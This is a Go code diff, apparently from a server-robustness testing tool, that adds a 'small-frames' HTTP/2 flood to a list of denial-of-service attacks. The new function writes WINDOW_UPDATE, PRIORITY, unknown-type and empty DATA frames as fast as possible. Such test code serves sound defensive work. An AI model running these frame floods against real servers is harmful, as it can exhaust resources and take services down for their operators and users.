@@ -25,6 +25,7 @@ func byFrame() []attack {
 		{name: "indexed-headers", slow: true, by: "stranger", does: "a long field in HPACK's table, and headers that name it 16,000 times in a byte each", run: frameFlood(false, indexedHeaders)},
 		{name: "unread-pings", slow: true, by: "stranger", does: "PING and SETTINGS over HTTP/2 as fast as they go; no answer is read", run: frameFlood(true, pingsAndSettings)},
 		{name: "closed-windows", slow: true, by: "stranger", does: "100 requests at once over HTTP/2 for the page's largest file, with a window that lets nothing through", run: frameFlood(true, closedWindows)},
+		{name: "small-frames", slow: true, by: "stranger", does: "WINDOW_UPDATE, PRIORITY, frames of an unknown type and DATA of no bytes over HTTP/2, as fast as they go", run: frameFlood(false, smallFrames)},
 	}
 }
 
@@ -150,4 +151,20 @@ func closedWindows(w *http2.Framer, f *fields, round int) error {
 		return w.WritePing(true, [8]byte{})
 	}
 	return w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*round + 1), BlockFragment: f.encode(), EndHeaders: true, EndStream: true})
+}
+
+func smallFrames(w *http2.Framer, f *fields, round int) error {
+	switch {
+	case round == 0:
+		return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.encode(), EndHeaders: true})
+	case round%5 == 1:
+		return w.WriteWindowUpdate(0, 1)
+	case round%5 == 2:
+		return w.WriteWindowUpdate(1, 1)
+	case round%5 == 3:
+		return w.WritePriority(uint32(2*(round%1000)+1), http2.PriorityParam{Weight: 3})
+	case round%5 == 4:
+		return w.WriteRawFrame(0xbe, 0, 0, nil)
+	}
+	return w.WriteData(1, false, nil)
 }
